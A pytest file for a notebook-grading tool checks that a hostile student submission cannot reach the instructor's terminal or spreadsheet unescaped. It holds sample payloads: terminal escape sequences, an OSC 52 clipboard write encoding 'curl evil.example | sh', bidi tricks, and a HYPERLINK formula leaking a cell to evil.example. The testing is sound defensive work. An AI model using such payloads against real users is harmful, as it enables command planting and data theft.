"""No byte from a submission reaches the instructor's terminal raw, and grades.csv holds no formula.

A submission chooses many strings the grader repeats: grade ids and other nbgrader metadata, the
messages of its errors, what it prints, the names of files in its folder, the student id (a
folder name in submitted/), notebook names. The attacker here puts terminal sequences in all of
them: an OSC 0 title change, an erased and faked progress line (CSI 2K and a carriage return), an
OSC 52 write to the clipboard, the 8-bit CSI (U+009B), bidi overrides and isolates, zero-width
characters, and text a spreadsheet would run as a formula. The class is graded for real, by
`make grade`'s driver and by plain nbgrader (autograde, generate_feedback, export) with the
course's nbgrader_config.py. Judged from outside: every byte both print, every log file, and
grades.csv hold no control or invisible format character, the escaped forms are there for the
instructor to read, every CSV cell is one a spreadsheet shows as text, and the CSV reads as the
same table with an independent parser. The escaping function itself is checked with hypothesis.
"""
import csv
import io
import json
import os
import pathlib
import subprocess
import sys
import unicodedata

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import grading_support
from convgrade import export
from convgrade.printable import FORMULA_START, printable, spreadsheet_cell
from demo_class.conv_basics import ASSIGNMENT, NOTEBOOK, solved
from demo_class.make_demo_class import cell_index, max_score

BIN = pathlib.Path(sys.executable).parent
ENV = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}
# apart from the uids of the suite's other grading tests (61000, 63000), which may run beside these
UID_BASE, SLOTS = 64000, 64

TITLE = "\x1b]0;GRADER OWNED\x07"
FAKE_LINE = "\x1b[2K\r[  1/1]   0.1 s  full_marks  26.0 / 26  ok"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
C1_CSI = "\x9b31m"
BIDI = "\u202egnp.exe\u202c\u2066x\u2069\u200b"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PAYLOADS = [TITLE, FAKE_LINE, CLIPBOARD, C1_CSI, BIDI, FORMULA]

ATTACKER = "escape_artist"
# a student id (folder name) with a title change, the 8-bit CSI, a bidi override and a formula start
NAMED = "+cmd\x1b]0;student\x07\u202eevil\x9b0m"
HONEST = "full_marks"


# ---------------------------------------------------------------- what counts as raw

def raw_characters(data):
    """The characters of data (bytes) that a terminal or a reader would act on or not show: C0
    controls but tab and line feed, DEL, C1 controls, format characters (bidi, zero width, ...),
    line and paragraph separators, and bytes that are not UTF-8 at all (raw 8-bit controls)."""
    text = data.decode("utf-8", errors="surrogateescape")
    bad = []
    for char in text:
        code = ord(char)
        if char in "\t\n":
            continue
        if code < 0x20 or code == 0x7F or 0x80 <= code <= 0x9F or 0xDC80 <= code <= 0xDCFF \
                or unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs"):
            bad.append(char)
    return bad


def assert_no_raw(name, data):
    bad = raw_characters(data)
    assert not bad, f"{name}: {len(bad)} raw control/format character(s), first {sorted(set(bad))[:10]!r}"


# ---------------------------------------------------------------- the attacker's submission

def attacker_notebook():
    """Full marks on the answers, plus every string the submission chooses carrying a payload."""
    nb = solved()
    where = cell_index(nb, "corr2d_answer") + 1
    printed = "\n".join(f"print({p!r})" for p in PAYLOADS)
    cells = []
    for number, payload in enumerate(PAYLOADS):
        # an invented test cell, an invented answer cell, a read-only cell: ids nbgrader never writes
        meta = [{"grade": True, "solution": False, "locked": True, "points": 1},
                {"grade": False, "solution": True, "locked": False},
                {"grade": False, "solution": False, "locked": True}][number % 3]
        cell = nbformat.v4.new_code_cell(f"# cell {number}\n{printed}\n")
        # (nbformat allows no comma in a tag; an invalid notebook is a grader error, not this test's subject)
        cell.metadata = {"nbgrader": {**meta, "grade_id": f"id{payload}", "schema_version": 3},
                         "tags": [payload.replace(",", ";")], "name": payload}
        cell["id"] = f"attack-{number}"
        cells.append(cell)
    # the same id twice (nbgrader's duplicate-id warning quotes it) and a well-formed but invented test id
    twin = nbformat.v4.new_code_cell("pass\n", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 1, "grade_id": f"id{TITLE}",
        "schema_version": 3}})
    twin["id"] = "attack-twin"
    invented = nbformat.v4.new_code_cell("assert True\n", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 5, "grade_id": "bonus_points",
        "schema_version": 3}})
    invented["id"] = "attack-bonus"
    # errors of the student's own code, and writes to the process's raw file descriptors
    raising = nbformat.v4.new_code_cell(
        "import os\n"
        f"for fd in (1, 2):\n    os.write(fd, {''.join(PAYLOADS).encode()!r})\n"
        f"raise ValueError({''.join(PAYLOADS)!r})\n")
    raising["id"] = "attack-raise"
    nb.cells[where:where] = cells + [twin, invented, raising]
    nb.metadata["title"] = TITLE
    return nb


def write_attackers(course):
    submitted = course / "submitted"
    folder = submitted / ATTACKER / ASSIGNMENT
    folder.mkdir(parents=True)
    # written as JSON, not through nbformat.write: a student's file need not be valid nbformat
    (folder / f"{NOTEBOOK}.ipynb").write_text(json.dumps(attacker_notebook(), indent=1))
    # files whose names carry the payloads (an extra notebook too: nbgrader names what it skips)
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "_")
        (folder / f"data{number}{name}.txt").write_text("data\n")
    (folder / f"extra{TITLE}{BIDI}.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    # an honest notebook handed in under a student id (folder name) full of payloads
    named = submitted / NAMED / ASSIGNMENT
    named.mkdir(parents=True)
    nbformat.write(solved(), named / f"{NOTEBOOK}.ipynb")


def course(folder):
    grading_support.course_copy(folder, students={HONEST}, assignments={ASSIGNMENT})
    with open(folder / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.Isolation.uid_base = {UID_BASE}\nc.Isolation.slots = {SLOTS}\n")
    write_attackers(folder)
    return folder


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    grading_support.require_sandbox()
    base = tmp_path_factory.mktemp("terminal")
    driver_course, plain_course = course(base / "driver"), course(base / "plain")
    steps = [f"generate_assignment {ASSIGNMENT} --force", f"autograde {ASSIGNMENT}",
             f"generate_feedback {ASSIGNMENT}", "export"]
    # plain nbgrader, each step's output kept apart, beside the driver
    plain = subprocess.Popen(" ; ".join(f"{BIN}/nbgrader {step}; echo \"rc=$?\" >&2" for step in steps),
                             shell=True, cwd=plain_course, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        driver = subprocess.run([sys.executable, str(grading_support.ROOT / "tools" / "grade.py"),
                                 "--course", str(driver_course)], env=ENV, capture_output=True, timeout=1500)
        plain_out, plain_err = plain.communicate(timeout=1500)
    finally:
        if plain.poll() is None:
            plain.kill()
    return {"driver": driver, "driver_course": driver_course, "plain_course": plain_course,
            "plain": (plain.returncode, plain_out, plain_err)}


def outputs(graded):
    """name -> bytes: everything both graders printed, every log and record they wrote, grades.csv."""
    found = {"make grade stdout": graded["driver"].stdout, "make grade stderr": graded["driver"].stderr,
             "nbgrader stdout": graded["plain"][1], "nbgrader stderr": graded["plain"][2]}
    for kind in ("driver", "plain"):
        root = graded[f"{kind}_course"]
        for path in [*root.glob("autograded/.logs/**/*"), *root.glob("*.log"), *root.glob(".*.log"),
                     root / "grades.csv"]:
            if path.is_file():
                found[f"{kind}: {path.relative_to(root)}"] = path.read_bytes()
    return found


# ---------------------------------------------------------------- the tests

def test_both_graders_finish(graded):
    driver, (plain_rc, plain_out, plain_err) = graded["driver"], graded["plain"]
    assert driver.returncode == 0, driver.stderr[-3000:]
    assert plain_err.count(b"rc=0") == 4, plain_err[-3000:]


def test_nothing_printed_or_logged_holds_a_raw_control_character(graded):
    found = outputs(graded)
    assert sum(".logs" in name for name in found) >= 3 and found["nbgrader stderr"], sorted(found)
    for name, data in found.items():
        assert_no_raw(name, data)


def test_the_attempt_is_visible_escaped(graded):
    """What was tried can still be read: the escaped sequences are in the summary, the CSV and the logs."""
    summary = graded["driver"].stdout.decode()
    for kind in ("driver", "plain"):
        table = (graded[f"{kind}_course"] / "grades.csv").read_text()
        assert printable(NAMED) in table, kind
        assert "\\x1b]0;GRADER OWNED\\x07" in table, kind  # the title-changing grade id, escaped
        assert "\\x1b]52;c;" in table and "\\u202e" in table, kind
    assert printable(NAMED) in summary and "\\x1b]52;c;" in summary, summary[-2000:]
    plain_log = graded["plain"][2].decode()
    assert "\\x1b]0;GRADER OWNED\\x07" in plain_log and printable(NAMED) in plain_log, plain_log[-3000:]


def test_rows_are_as_deserved(graded):
    """Grade ids the release does not have earn nothing and are flagged; honest work keeps its score.

    Every answer is right, so each row deserves full marks, unless a per-cell wall-clock limit hit
    it (a known load dependence of grading, issue 18: then it says "timed out", and never gets more)."""
    top = max_score(ASSIGNMENT)
    for kind in ("driver", "plain"):
        rows = grading_support.read_csv(graded[f"{kind}_course"] / "grades.csv")
        for student in (ATTACKER, HONEST, spreadsheet_cell(NAMED)):
            row = rows[student, ASSIGNMENT]
            assert float(row["max_score"]) == top, (kind, row)  # the invented 5-point test counts nowhere
            assert float(row["score"]) == top or ("timed out" in row["status"] and float(row["score"]) < top), \
                (kind, row)
            expected = {"tampered"} if student == ATTACKER else set()
            assert set(row["status"].split("; ")) - {"timed out", "ok"} == expected, (kind, row)
        details = rows[ATTACKER, ASSIGNMENT]["details"]
        assert details.startswith("cells with grade ids nbgrader never writes (made ordinary cells): id"), details
        assert "cells added as graded cells (made ordinary cells): bonus_points" in details, details


def rfc4180(text):
    """An independent reader of RFC 4180 CSV (quoted fields, doubled quotes, CRLF or LF rows)."""
    rows, row, field, quoted, i = [], [], [], False, 0
    while i < len(text):
        char = text[i]
        if quoted:
            if char == '"' and text[i + 1:i + 2] == '"':
                field.append('"')
                i += 1
            elif char == '"':
                quoted = False
            else:
                field.append(char)
        elif char == '"':
            quoted = True
        elif char == ",":
            row.append("".join(field))
            field = []
        elif char in "\r\n":
            if char == "\r" and text[i + 1:i + 2] == "\n":
                i += 1
            row.append("".join(field))
            rows.append(row)
            row, field = [], []
        else:
            field.append(char)
        i += 1
    if field or row:
        row.append("".join(field))
        rows.append(row)
    return rows


def test_grades_csv_holds_no_formula_and_reads_as_the_same_table(graded):
    for kind in ("driver", "plain"):
        text = (graded[f"{kind}_course"] / "grades.csv").read_bytes().decode("utf-8")
        table = list(csv.reader(io.StringIO(text, newline="")))
        assert table == rfc4180(text), kind
        assert table[0] == export.COLUMNS and all(len(row) == len(export.COLUMNS) for row in table), kind
        assert len(table) == 1 + 3, (kind, [row[3] for row in table])  # three students, one row each
        for row in table[1:]:
            for column, cell in zip(export.COLUMNS, row):
                assert not cell.lstrip(" ").startswith(FORMULA_START), (kind, column, cell)
                if column in export.NUMBERS:
                    float(cell)
        rewritten = io.StringIO(newline="")
        csv.writer(rewritten).writerows(table)
        assert list(csv.reader(io.StringIO(rewritten.getvalue(), newline=""))) == table


# ---------------------------------------------------------------- the escaping function

def unescape(text):
    """The inverse of printable (written here from its rules, independently of its code)."""
    out, i = [], 0
    widths = {"x": 2, "u": 4, "U": 8}
    while i < len(text):
        if text[i] == "\\" and i + 1 < len(text):
            after = text[i + 1]
            if after == "\\":
                out.append("\\")
                i += 2
                continue
            if after in widths:
                digits = text[i + 2:i + 2 + widths[after]]
                if len(digits) == widths[after] and all(c in "0123456789abcdef" for c in digits):
                    out.append(chr(int(digits, 16)))
                    i += 2 + widths[after]
                    continue
        out.append(text[i])
        i += 1
    return "".join(out)


def unsafe(char, newlines):
    if newlines and char == "\n":
        return False
    return unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")


text_with_controls = st.text(st.one_of(
    st.characters(codec=None), st.sampled_from(list("\\xuU0123456789abcdef\x1b\x07\x9b\r\n\t\x00\x7f\u202e\u2066"
                                                    "\u200b\ufeff\u2028\udc9b=+-@\uff1d"))), max_size=60)


@settings(max_examples=400, deadline=None)
@given(text_with_controls, st.booleans())
def test_printable_leaves_nothing_raw_and_can_be_undone(text, newlines):
    shown = printable(text, newlines=newlines)
    assert not [c for c in shown if unsafe(c, newlines)]
    assert unescape(shown) == text  # different texts never print the same
    shown.encode("utf-8")  # no lone surrogate left: every output can be written (this raises otherwise)


@settings(max_examples=200, deadline=None)
@given(text_with_controls, text_with_controls)
def test_different_texts_print_differently(first, second):
    if first != second:
        assert printable(first) != printable(second)


@settings(max_examples=300, deadline=None)
@given(text_with_controls)
def test_a_spreadsheet_cell_never_starts_a_formula(text):
    cell = spreadsheet_cell(text)
    assert not cell.lstrip(" ").startswith(FORMULA_START)
    assert not [c for c in cell if unsafe(c, False)]


def test_printable_examples():
    assert printable("a\x1b]52;c;eA==\x07b") == "a\\x1b]52;c;eA==\\x07b"
    assert printable("line\r\nnext", newlines=True) == "line\\x0d\nnext"
    assert printable("\u202eabc\U000e0041") == "\\u202eabc\\U000e0041"
    assert printable("C:\\temp\\x") == "C:\\temp\\\\x"  # a literal backslash-x stays told apart from an escape
    assert printable("plain text, 中文, é") == "plain text, 中文, é"
    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("\uff0b1") == "'\uff0b1"
    assert spreadsheet_cell("cells edited (restored): x") == "cells edited (restored): x"


def test_log_records_and_warnings_are_escaped_in_this_process():
    import logging
    import warnings

    from convgrade.printable import install
    install()
    stream = io.StringIO()
    logger = logging.getLogger("convgrade.test.terminal")
    handler = logging.StreamHandler(stream)
    logger.addHandler(handler)
    try:
        logger.warning("Cell with id '%s' exists %d times", TITLE, 2)
        logger.error(f"inline {CLIPBOARD}\nsecond line")
        try:
            raise ValueError(FAKE_LINE)
        except ValueError:
            logger.exception("failed: %r", BIDI)
    finally:
        logger.removeHandler(handler)
    written = stream.getvalue()
    assert_no_raw("log", written.encode())
    assert "Cell with id '\\x1b]0;GRADER OWNED\\x07' exists 2 times" in written
    assert "inline \\x1b]52;c;" in written and "\nsecond line" in written
    assert "ValueError: \\x1b[2K\\x0d[" in written
    shown = warnings.formatwarning(UserWarning(TITLE), UserWarning, "f.py", 1, "")
    assert_no_raw("warning", shown.encode())
    assert "\\x1b]0;GRADER OWNED\\x07" in shown


def test_an_uncaught_exception_is_escaped_too():
    """A process that dies on a submission's text (nbgrader crashing, say) prints it escaped."""
    code = ("import convgrade.printable as p; p.install()\n"
            f"raise RuntimeError({CLIPBOARD + BIDI!r})\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=120)
    assert done.returncode == 1
    assert_no_raw("stderr", done.stderr)
    assert b"RuntimeError: \\x1b]52;c;" in done.stderr and b"\\u202e" in done.stderr


def test_grades_csv_writer_neutralises_every_text_cell(tmp_path):
    """Both writers share export.write: a row whose every text is hostile comes out inert."""
    row = {column: payload for column, payload in zip(export.COLUMNS, PAYLOADS * 3)}
    row.update(raw_score="1.5", late_submission_penalty="0", score="1.5", max_score="26",
               student_id=NAMED, details="-2+3", timestamp="@now")
    path = export.write(tmp_path / "grades.csv", [row])
    data = path.read_bytes()
    assert_no_raw("grades.csv", data)
    table = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert table == rfc4180(data.decode()) and len(table) == 2
    written = dict(zip(table[0], table[1]))
    for column, cell in written.items():
        assert not cell.lstrip(" ").startswith(FORMULA_START), (column, cell)
    assert (written["score"], written["student_id"], written["details"]) == ("1.5", printable("'" + NAMED), "'-2+3")


def test_summary_and_progress_escape_what_a_submission_chose():
    from convgrade import report
    rows = [{"student_id": NAMED, "assignment": ASSIGNMENT, "status": "tampered",
             "details": f"cells with grade ids nbgrader never writes (made ordinary cells): id{CLIPBOARD}"}]
    text = report.summary(rows, pathlib.Path("/course/grades.csv"), 1.0, graded=1)
    assert_no_raw("summary", text.encode())
    assert printable(NAMED) in text and "id\\x1b]52;c;" in text
